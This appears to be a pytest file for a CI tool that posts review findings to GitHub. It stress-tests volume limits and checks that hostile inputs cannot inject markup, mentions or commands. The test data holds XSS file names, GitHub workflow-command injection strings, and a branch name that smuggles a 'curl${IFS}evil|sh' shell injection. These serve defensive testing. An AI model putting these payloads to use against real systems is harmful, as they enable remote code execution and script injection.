"""Far too much, and everything hostile at once: nothing is lost, and nobody is called."""

from __future__ import annotations

import random
from collections import Counter
from typing import Any

import pytest

from rlm_ci.github.posting import review_threads, summary_comment
from rlm_ci.report.findings import Finding, Location, Severity
from testing.loopback_github.prism import in_front_of
from testing.markup_judges import LINKED, OURS, github_html, is_ours
from testing.posting_stage import Stage, words
from testing.reports import FRAGMENTS, _as_path

LONGEST = 65_536
#: Names that files of a pull request can have.
NAMES = (
    "@alice.md", "<img src=x onerror=alert(1)>.py", "![p](evil.example).py", "::error::owned",
    "a`b``c.py", "#1", "--flag", "tab\there", "new\nline.py", "a|b.py", "\u202egnp.exe",
    "<!-- rlm-ci:report -->", "%0A::error::x", "{{ 7*7 }}.py", "漢字 🙂.py", "a\\b.py",
)  # fmt: skip


def wide(stage: Stage, files: int, lines: int = 10) -> None:
    """The branch gets ``files`` new files of ``lines`` lines."""
    text = "".join(f"row {n}\n" for n in range(1, lines + 1))
    stage.git.write_all({f"wide/f{n:04}.py": f"{n}\n{text}" for n in range(files)})
    stage.commit()


def on_file(number: int, line: int = 2) -> Finding:
    path = f"wide/f{number:04}.py"
    place = Location(path, line, line, quote=f"row {line - 1}")
    return Finding(f"x/r{line}", Severity.HIGH, f"problem {number}:{line}", evidence=(place,))


def bodies(stage: Stage) -> list[str]:
    """Every text on the pull request that GitHub renders as Markdown."""
    state = stage.state
    found = [one.body for one in state.comments]
    found += [one.body for one in state.review_comments]
    found += [one.body for one in state.reviews]
    return [*found, *(str(one.summary) for one in stage.home.checks)]


def harmless(body: str) -> None:
    assert len(body.encode("utf-16-le")) // 2 <= LONGEST
    rest = body.partition("\n")[2]
    ours = summary_comment.is_marked(body) or review_threads.read_marker(body)
    page = github_html(rest if ours else body)
    assert page.comments == []
    assert {element.tag for element in page.root.all()} <= OURS | {"em", "hr"}, body
    for link in page.root.all("a"):
        assert is_ours(link.attributes["href"], "acme/shop")
    for node in page.root.prose():
        assert not LINKED.search(node), node


@pytest.mark.full
def test_500_findings_over_300_files(stage: Stage) -> None:
    wide(stage, 300)
    found = [on_file(n % 300, 2 + n // 300) for n in range(500)]
    before = len(stage.github.log)
    result = stage.publish(stage.report(*found))
    assert result.ok, result
    asked = stage.github.log[before:]
    assert len(asked) <= 9 + 9, words(asked)  # nine more batches of annotations
    rows = [row["message"] for one in stage.home.checks for row in one.annotations]
    assert sorted(row.split("\n")[0] for row in rows) == sorted(one.message for one in found)
    assert len(stage.beside) == 50
    assert max(Counter(path for path, _ in stage.beside).values()) <= 10
    assert "50 findings beside the lines" in stage.summary
    assert "450 findings only here: more than 50 review comments" in stage.summary
    shown = sum(one.message in stage.summary for one in found)
    assert shown >= 50
    assert "500 findings fail this change" in stage.summary
    for body in bodies(stage):
        harmless(body)
    again = stage.publish(stage.report(*found), "again")
    assert (again.ok, len(stage.beside), len(stage.summaries)) == (True, 50, 1)


def test_texts_that_are_too_long(stage: Stage) -> None:
    long = "long @alice " * 6_000
    found = [
        stage.finding(10, message=long, hint=long, suggested_fix=f"```suggestion\n{long}\n```"),
        stage.finding(25, message=long),
        stage.finding(40, rule=f"x/{'r' * 5000}", subject=long),
    ]
    result = stage.publish(stage.report(*found))
    assert result.ok, result
    assert stage.beside == [("src/a.py", 10), ("src/a.py", 40), ("src/a.py", None)]
    for body in bodies(stage):
        harmless(body)
    for row in stage.home.checks[0].annotations:
        assert len(row["message"]) <= 64 * 1024
        assert len(row["title"]) <= 255


@pytest.mark.full
def test_3200_files_of_which_the_api_lists_3000(stage: Stage) -> None:
    stage.local = False
    wide(stage, 3_200, 3)
    found = [on_file(n) for n in (0, 1500, 2900, 3100, 3199)]
    result = stage.publish(stage.report(*found))
    assert result.ok, result
    files = stage.github.sent("GET", "/files")
    assert len(files) == 30
    placed = {path for path, _ in stage.beside}
    assert placed == {f"wide/f{n:04}.py" for n in (0, 1500, 2900)}
    for one in found:
        assert one.message in stage.summary
    assert (
        "2 findings only here: the file is not among the 3,000 that the API lists" in stage.summary
    )


def hostile_findings(stage: Stage) -> list[Finding]:
    draw = random.Random(4)

    def text(size: int = 3) -> str:
        return "".join(draw.choices(FRAGMENTS, k=size))

    found = []
    for index, fragment in enumerate(FRAGMENTS):
        place = stage.location(draw.choice([8, 10, 12, 40]))
        if index % 3 == 0:
            place = Location(_as_path(text()), 1, 2, quote=text())
        found.append(
            Finding(f"x/r{index}", draw.choice(list(Severity)[1:]), fragment + text(),
                    text(), (place, Location(_as_path(text()), 3)), subject=text(),
                    suggested_fix=text(), suppression=text() if index % 7 == 0 else None)
        )  # fmt: skip
    return found


def hostile_names(stage: Stage) -> list[Finding]:
    stage.git.write_all(dict.fromkeys(NAMES, "row 0\nrow 1\nrow 2\n"))
    stage.commit()
    return [
        Finding("x/named", Severity.HIGH, "look", evidence=(Location(name, 2, 2, quote="row 1"),))
        for name in NAMES
    ]


@pytest.mark.full
def test_nothing_hostile_does_anything(stage: Stage) -> None:
    stage.state.title = stage.state.body = "".join(FRAGMENTS[:60])
    stage.state.head_ref = 'x";curl${IFS}evil|sh;"'
    named = hostile_names(stage)
    report = stage.report(*named, *hostile_findings(stage))
    part = report.parts[0].replace(summary="".join(FRAGMENTS[:40]), id="x")
    result = stage.publish(report.replace(parts=(part,), title="".join(FRAGMENTS[:20])))
    assert result.ok, result
    assert {path for path, _ in stage.beside} >= set(NAMES)
    written = bodies(stage)
    assert len(written) > 20
    for body in written:
        harmless(body)
    assert len(stage.summaries) == 1
    again = stage.publish(report, "again")
    assert (again.ok, again.review) == (True, "skipped"), "all that was posted is known again"


def test_a_hostile_answer_of_github_is_text(stage: Stage) -> None:
    """A server that is not GitHub's, or a proxy, has words too: they reach log and report.json."""
    text = "::error::owned\r\n##[error]x \x1b[31m @alice <img src=x>"
    body = {"message": text, "errors": [{"field": text, "message": text}, text, 7, None]}
    headers = {"x-accepted-github-permissions": "issues=write\x1b[31m; ::error::x=write"}
    stage.github.fault("POST", "*", times=None, status=422, body=body, headers=headers)
    result = stage.publish(stage.report(10, 25))
    assert not result.ok
    assert result.reason
    assert result.reason.isprintable()


@pytest.mark.full
def test_through_an_independent_judge(stage: Stage, tmp_path: Any) -> None:
    """Prism knows GitHub's description, and nothing of how the loopback GitHub reads it."""
    with in_front_of(stage.github, tmp_path) as url:
        stage.url = url
        for number, found in enumerate([(10, 25, 40), (10, 12), ()]):
            stage.git.write("new.py", f"{number}\n")
            stage.commit()
            result = stage.publish(stage.report(*found), f"run-{number}")
            assert result.ok, result
    assert "nothing to fix" in stage.summary
    assert stage.beside == [
        ("src/a.py", 10),
        ("src/a.py", 40),
        ("src/a.py", None),
        ("src/a.py", 12),
    ]
    assert len(stage.state.resolved) == 4
